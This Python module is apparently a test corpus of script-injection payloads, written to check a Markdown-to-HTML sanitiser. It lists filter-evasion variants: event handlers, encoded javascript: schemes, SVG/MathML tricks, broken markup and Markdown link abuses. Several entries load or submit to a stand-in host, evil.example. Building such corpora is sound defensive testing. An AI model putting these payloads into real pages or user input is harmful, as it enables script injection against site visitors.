"""Kinds of script-injection payload, written for this project.

Each entry is (kind, Markdown source). They are grouped by the trick they
try, not copied from any published list; ``MARKER`` makes a payload's own
code recognisable on a whole page.
"""

MARKER = "7331"

SCRIPT_ELEMENTS = [
    ("script plain", "<script>alert(7331)</script>"),
    ("script upper case", "<SCRIPT>alert(7331)</SCRIPT>"),
    ("script mixed case", "<ScRiPt>alert(7331)</sCrIpT>"),
    ("script with src", "<script src=https://evil.example/7331.js></script>"),
    ("script with type", '<script type="text/javascript">alert(7331)</script>'),
    ("script module", '<script type="module">import("https://evil.example/7331")</script>'),
    ("script split by a nested script", "<scr<script>ipt>alert(7331)</scr</script>ipt>"),
    ("script slash for space", "<script/src=https://evil.example/7331.js></script>"),
    ("script newline in tag", "<script\n>alert(7331)</script\n>"),
    ("script unclosed", "<script>alert(7331)"),
    ("script inside a paragraph", "本文の途中に<script>alert(7331)</script>を入れる。"),
    ("script in a list item", "- 項目\n- <script>alert(7331)</script>"),
    ("script in a table cell", "| a | b |\n| - | - |\n| <script>alert(7331)</script> | 2 |"),
    ("script in a heading", "## 見出し<script>alert(7331)</script>"),
    ("script after double angle", "<<script>alert(7331);//<</script>"),
    ("script with null byte in name", "<scr\x00ipt>alert(7331)</script>"),
]

EVENT_HANDLERS = [
    ("img onerror", '<img src="x" onerror="alert(7331)">'),
    ("img onerror unquoted", "<img src=x onerror=alert(7331)>"),
    ("img onerror upper case", '<IMG SRC="x" ONERROR="alert(7331)">'),
    ("img onerror slash separated", "<img/src=x/onerror=alert(7331)>"),
    ("img onload", '<img src="https://example.com/a.png" onload="alert(7331)">'),
    ("a onmouseover", '<a href="https://example.com" onmouseover="alert(7331)">x</a>'),
    ("a onclick", '<a href="#" onclick="alert(7331)">リンク</a>'),
    ("a onfocus autofocus", '<a href="#" autofocus onfocus="alert(7331)">x</a>'),
    ("p onpointerenter", '<p onpointerenter="alert(7331)">段落</p>'),
    ("div onanimationstart", '<div onanimationstart="alert(7331)">x</div>'),
    ("table onbeforeprint", '<table onbeforeprint="alert(7331)"><tr><td>1</td></tr></table>'),
    ("h2 ontoggle", '<h2 ontoggle="alert(7331)">見出し</h2>'),
    ("span with entity-encoded handler", '<span onmouseover="&#97;lert(7331)">x</span>'),
    ("body onload", '<body onload="alert(7331)">'),
    ("details ontoggle open", '<details open ontoggle="alert(7331)"><summary>s</summary></details>'),
    ("video source onerror", '<video><source onerror="alert(7331)"></video>'),
    ("audio src onerror", '<audio src=x onerror="alert(7331)"></audio>'),
    ("input autofocus onfocus", '<input autofocus onfocus="alert(7331)">'),
    ("marquee onstart", '<marquee onstart="alert(7331)">x</marquee>'),
]

URL_SCHEMES = [
    ("javascript href", '<a href="javascript:alert(7331)">x</a>'),
    ("javascript mixed case", '<a href="JaVaScRiPt:alert(7331)">x</a>'),
    ("javascript decimal entity", '<a href="&#106;avascript:alert(7331)">x</a>'),
    ("javascript zero-padded entity", '<a href="&#0000106;avascript:alert(7331)">x</a>'),
    ("javascript hex entity", '<a href="&#x6A;avascript:alert(7331)">x</a>'),
    ("javascript entity without semicolon", '<a href="&#106avascript:alert(7331)">x</a>'),
    ("javascript every letter encoded", '<a href="&#x6a;&#x61;&#x76;&#x61;script&#x3a;alert(7331)">x</a>'),
    ("javascript named colon entity", '<a href="javascript&colon;alert(7331)">x</a>'),
    ("javascript tab inside", '<a href="java\tscript:alert(7331)">x</a>'),
    ("javascript encoded tab inside", '<a href="java&#x09;script:alert(7331)">x</a>'),
    ("javascript encoded newline inside", '<a href="java&#10;script:alert(7331)">x</a>'),
    ("javascript leading control char", '<a href="\x01javascript:alert(7331)">x</a>'),
    ("javascript leading spaces", '<a href="   javascript:alert(7331)">x</a>'),
    ("javascript leading encoded space", '<a href="&#32;javascript:alert(7331)">x</a>'),
    ("javascript zero-width space", '<a href="java\u200bscript:alert(7331)">x</a>'),
    ("javascript in img src", '<img src="javascript:alert(7331)">'),
    ("vbscript href", '<a href="vbscript:msgbox(7331)">x</a>'),
    ("vbscript upper case", '<a href="VBSCRIPT:msgbox(7331)">x</a>'),
    ("data html href", '<a href="data:text/html,<script>alert(7331)</script>">x</a>'),
    ("data base64 href", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg3MzMxKTwvc2NyaXB0Pg==">x</a>'),
    ("data mixed case", '<a href="DaTa:text/html,<script>alert(7331)</script>">x</a>'),
    ("data svg image", '<img src="data:image/svg+xml,<svg onload=alert(7331)>">'),
    ("data encoded scheme", '<img src="&#100;ata:text/html,alert(7331)">'),
    ("livescript href", '<a href="livescript:alert(7331)">x</a>'),
    ("file href", '<a href="file:///etc/passwd">x</a>'),
    ("blob href", '<a href="blob:https://evil.example/7331">x</a>'),
    ("filesystem href", '<a href="filesystem:https://evil.example/7331">x</a>'),
    ("jar href", '<a href="jar:https://evil.example/x!/7331">x</a>'),
]

SVG_AND_MATHML = [
    ("svg onload", '<svg onload="alert(7331)"><circle r="1"/></svg>'),
    ("svg nested script", "<svg><script>alert(7331)</script></svg>"),
    ("svg script with xlink", '<svg><script xlink:href="data:,alert(7331)"></script></svg>'),
    (
        "svg animate href",
        '<svg><a><animate attributeName="href" values="javascript:alert(7331)"/><text>x</text></a></svg>',
    ),
    (
        "svg set href",
        '<svg><a><set attributeName="href" to="javascript:alert(7331)"/><text>x</text></a></svg>',
    ),
    ("svg use external", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(7331)>#x"/></svg>'),
    ("svg foreignObject", "<svg><foreignObject><script>alert(7331)</script></foreignObject></svg>"),
    ("svg image onerror", '<svg><image href="x" onerror="alert(7331)"/></svg>'),
    ("svg style CDATA", "<svg><style><![CDATA[</style><img src=x onerror=alert(7331)>]]></style></svg>"),
    ("math xlink href", '<math><mtext><a xlink:href="javascript:alert(7331)">x</a></mtext></math>'),
    (
        "math maction",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(7331)">x</maction></math>',
    ),
    ("math mglyph style confusion", "<math><mtext><table><mglyph><style><img src=x onerror=alert(7331)>"),
    (
        "math annotation-xml html",
        '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(7331)></annotation-xml></math>',
    ),
]

STYLE = [
    ("style block", "<style>body{background:url(javascript:alert(7331))}</style>"),
    ("style block importing", "<style>@import 'https://evil.example/7331.css';</style>"),
    ("style attribute url", '<p style="background:url(javascript:alert(7331))">x</p>'),
    ("style attribute expression", '<div style="width:expression(alert(7331))">x</div>'),
    ("style attribute overlay", '<a href="https://evil.example" style="position:fixed;inset:0">7331</a>'),
    ("style behaviour", '<span style="behavior:url(7331.htc)">x</span>'),
    ("link stylesheet", '<link rel="stylesheet" href="https://evil.example/7331.css">'),
]

EMBEDDING_AND_NAVIGATION = [
    ("iframe src", '<iframe src="https://evil.example/7331"></iframe>'),
    ("iframe srcdoc", '<iframe srcdoc="<script>alert(7331)</script>"></iframe>'),
    ("iframe javascript", '<iframe src="javascript:alert(7331)"></iframe>'),
    ("object data", '<object data="https://evil.example/7331.swf"></object>'),
    ("object javascript", '<object data="javascript:alert(7331)"></object>'),
    ("embed src", '<embed src="https://evil.example/7331.swf">'),
    ("form action", '<form action="https://evil.example/7331"><input name="p"><button>送信</button></form>'),
    ("button formaction", '<button formaction="javascript:alert(7331)">x</button>'),
    ("base href", '<base href="https://evil.example/7331/">'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(7331)">'),
    ("meta refresh data", '<meta http-equiv="refresh" content="0;url=data:text/html,7331">'),
    ("frameset", '<frameset><frame src="javascript:alert(7331)"></frameset>'),
    ("template script", "<template><script>alert(7331)</script></template>"),
    ("portal", '<portal src="https://evil.example/7331"></portal>'),
    ("applet", '<applet code="Evil7331.class"></applet>'),
    ("isindex action", '<isindex action="javascript:alert(7331)">'),
    ("a with target and srcdoc", '<a href="https://example.com" target="_blank" srcdoc="7331">x</a>'),
]

BROKEN_MARKUP = [
    ("unclosed img", '<img src="x" onerror="alert(7331)"'),
    ("unclosed attribute quote", '<a href="https://example.com onmouseover=alert(7331)>x</a>'),
    ("attribute quote breaking", '<a title="x" "onmouseover="alert(7331)">x</a>'),
    ("attribute quote breaking single", "<a title='x'' onmouseover='alert(7331)'>x</a>"),
    ("backtick attribute", "<img src=`x` onerror=`alert(7331)`>"),
    ("no space between attributes", '<img src="x"onerror="alert(7331)">'),
    ("tag inside attribute", '<a title="<script>alert(7331)</script>">x</a>'),
    ("closing title breaks out", "<title><img src=x onerror=alert(7331)></title>"),
    ("textarea breaks out", "<textarea><img src=x onerror=alert(7331)></textarea>"),
    ("noscript breaks out", '<noscript><p title="</noscript><img src=x onerror=alert(7331)>"></noscript>'),
    ("xmp breaks out", "<xmp><img src=x onerror=alert(7331)></xmp>"),
    ("plaintext", "<plaintext><script>alert(7331)</script>"),
    ("nested quotes in event", '<img src=x onerror="alert(\'7331\')"">'),
    ("end tag with attributes", '<p>x</p onmouseover="alert(7331)">'),
    ("mismatched nesting", "<b><i><script>alert(7331)</b></i></script>"),
    ("half-open tag then script", "<a <script>alert(7331)</script>"),
    ("html comment hiding script", "<!--><script>alert(7331)</script>-->"),
    ("comment closed early", "<!-- --!><img src=x onerror=alert(7331)> -->"),
    ("conditional comment", "<!--[if IE]><script>alert(7331)</script><![endif]-->"),
    ("CDATA hiding script", "<![CDATA[><script>alert(7331)</script>]]>"),
    ("processing instruction", '<?xml-stylesheet href="javascript:alert(7331)"?>'),
    ("doctype", "<!DOCTYPE html><script>alert(7331)</script>"),
    ("namespace prefixed tag", "<x:script>alert(7331)</x:script>"),
    ("custom element with is", '<p is="evil-7331">x</p>'),
]

MARKDOWN_VECTORS = [
    ("markdown link javascript", "[クリック](javascript:alert(7331))"),
    ("markdown link encoded javascript", "[x](&#106;avascript:alert(7331))"),
    ("markdown link percent-encoded scheme", "[x](javascript%3Aalert(7331))"),
    ("markdown link tab in scheme", "[x](java\tscript:alert(7331))"),
    ("markdown link spaces in scheme", "[x](<java  script:alert(7331)>)"),
    ("markdown link vbscript", "[x](vbscript:msgbox(7331))"),
    ("markdown link data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCg3MzMxKTwvc2NyaXB0Pg==)"),
    ("markdown image javascript", "![画像](javascript:alert(7331))"),
    ("markdown image data svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNzMzMSk+)"),
    ("markdown image alt breaking out", '![x" onerror="alert(7331)](https://example.com/a.png)'),
    ("markdown reference link", "[参照][r]\n\n[r]: javascript:alert(7331)"),
    ("markdown reference with title", '[参照][r]\n\n[r]: javascript:alert(7331) "題"'),
    ("markdown reference image", "![画像][i]\n\n[i]: javascript:alert(7331)"),
    ("markdown autolink javascript", "<javascript:alert(7331)>"),
    ("markdown autolink mixed case", "<JavaScript:alert(7331)>"),
    ("markdown autolink data", "<data:text/html,<script>alert(7331)</script>>"),
    ("markdown email autolink with handler", '<x@example.com" onmouseover="alert(7331)>'),
    ("markdown link title breaking quotes", '[x](https://example.com "t" onmouseover="alert(7331)")'),
    ("markdown link title escaped quote", '[x](https://example.com "t\\" onmouseover=\\"alert(7331)")'),
    ("markdown link title single quotes", "[x](https://example.com 't' onmouseover='alert(7331)')"),
    ("markdown link url breaking quote", '[x](https://example.com" onmouseover="alert(7331))'),
    ("markdown link with html inside", "[<img src=x onerror=alert(7331)>](https://example.com)"),
    ("markdown raw html block", '<div markdown="1">\n<script>alert(7331)</script>\n</div>'),
    (
        "markdown raw html block with markdown inside",
        '<div markdown="1">\n[x](javascript:alert(7331))\n</div>',
    ),
    ("markdown attr_list onclick", '段落 {: onclick="alert(7331)" }'),
    ("markdown attr_list style", '## 見出し {: style="position:fixed" data-x=7331 }'),
    ("markdown attr_list on link", '[x](https://example.com){: onmouseover="alert(7331)" }'),
    ("markdown footnote with html", "本文[^1]\n\n[^1]: <img src=x onerror=alert(7331)>"),
    ("markdown definition list with script", "用語\n:   <script>alert(7331)</script>"),
    ("markdown abbreviation title breaking", '*[HTML]: x" onmouseover="alert(7331)\n\nHTML です。'),
    ("markdown table cell handler", "| a |\n| - |\n| <span onclick=alert(7331)>x</span> |"),
    ("markdown heading id breaking", '## a" onmouseover="alert(7331)'),
    ("markdown code span with script", "`<script>alert(7331)</script>`"),
    ("markdown fenced code with script", "```html\n<script>alert(7331)</script>\n```"),
    ("markdown html in blockquote", "> <iframe src=javascript:alert(7331)></iframe>"),
    ("markdown nested list with svg", "- a\n    - <svg onload=alert(7331)>"),
    ("markdown link inside raw anchor", '<a href="javascript:alert(7331)">[x](https://example.com)</a>'),
    ("markdown escaped bracket trick", "[x]\\(javascript:alert(7331))"),
    ("markdown link with newline in url", "[x](java\nscript:alert(7331))"),
]

CORPUS = (
    SCRIPT_ELEMENTS
    + EVENT_HANDLERS
    + URL_SCHEMES
    + SVG_AND_MATHML
    + STYLE
    + EMBEDDING_AND_NAVIGATION
    + BROKEN_MARKUP
    + MARKDOWN_VECTORS
)
